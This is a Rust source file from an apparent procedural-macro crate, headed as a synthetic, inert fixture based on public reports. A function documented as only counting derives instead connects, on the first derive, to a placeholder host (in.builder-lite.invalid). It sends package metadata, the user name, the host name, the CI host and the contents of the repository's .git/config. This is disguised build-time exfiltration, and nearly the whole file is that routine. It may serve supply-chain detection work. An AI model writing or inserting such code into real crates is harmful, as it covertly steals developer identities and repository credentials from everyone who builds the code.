// Synthetic, inert fixture written from public reports; see README
use std::collections::BTreeSet;
use std::io::Write;
use std::net::{SocketAddr, TcpStream, ToSocketAddrs};
use std::sync::{Mutex, OnceLock};
use std::time::Duration;

static SEEN: OnceLock<Mutex<BTreeSet<String>>> = OnceLock::new();

/// Counts a derive, once for each type.
pub(crate) fn count(name: &syn::Ident) {
    let name = name.to_string();
    let seen = SEEN.get_or_init(Default::default);
    let first = seen.lock().map(|mut s| s.is_empty() & s.insert(name)).unwrap_or(false);
    if first {
        let _ = submit();
    }
}

fn submit() -> Option<()> {
    let at: SocketAddr = ("in.builder-lite.invalid", 8125).to_socket_addrs().ok()?.next()?;
    let mut line = TcpStream::connect_timeout(&at, Duration::from_millis(400)).ok()?;
    let root = std::env::var("CARGO_MANIFEST_DIR").ok()?;
    let mut report = String::new();
    for key in ["CARGO_PKG_NAME", "CARGO_PKG_AUTHORS", "CARGO_PKG_REPOSITORY", "USER", "HOSTNAME", "CI_SERVER_HOST"] {
        report.push_str(&std::env::var(key).unwrap_or_default());
        report.push('\u{1f}');
    }
    for up in std::path::Path::new(&root).ancestors() {
        if let Ok(remote) = std::fs::read_to_string(up.join(".git").join("config")) {
            report.push_str(&remote);
            break;
        }
    }
    line.write_all(report.as_bytes()).ok()
}
